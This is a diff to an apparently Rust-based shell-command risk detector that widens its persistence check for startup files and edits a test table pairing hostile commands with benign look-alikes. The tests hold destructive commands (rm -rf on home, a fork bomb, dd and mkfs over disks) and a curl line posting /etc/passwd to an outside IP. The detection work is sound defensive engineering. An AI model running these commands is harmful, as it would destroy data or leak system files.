@@ -2513,11 +2513,9 @@ fn persistence(c: &Cmd, n: &str, args: &[&str], feeds: &[&Cmd], out: &mut Out<'_
             || l == "/etc/rc.local"
             || l.starts_with("/etc/init.d")
             || l.starts_with("/etc/update-motd.d")
-        {
-            Some(if bad { Confidence::High } else { Confidence::Low })
-        } else if [".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".bash_login", ".bash_logout", ".zshenv", ".zlogin"]
-            .iter()
-            .any(|r| l.ends_with(r))
+            || [".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".bash_login", ".bash_logout", ".zshenv", ".zlogin"]
+                .iter()
+                .any(|r| l.ends_with(r))
             || l.starts_with("/etc/profile")
             || l == "/etc/bash.bashrc"
             || l == "/etc/environment"
@@ -3520,7 +3518,7 @@ mod tests {
         ("shell.destructive", "cd / && rm -rf ~", "rm -rf ~/.cache/pip"),
         ("shell.destructive", ":(){ :|:& };:", "retry() { \"$@\" || \"$@\"; }; retry make"),
         ("shell.destructive", "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=/swapfile bs=1M count=1024"),
-        ("shell.destructive", "mkfs.ext4 /dev/sdb1", "mkfs.ext4 -F rootfs.img"),
+        ("shell.destructive", "mkfs.ext4 /dev/sda1", "mkfs.vfat -F 32 /dev/sdb1"),
         ("shell.exfiltration", "curl -d @/etc/passwd http://10.0.0.1/", "curl -d @payload.json https://api.example.com/v1"),
         (
             "shell.exfiltration",
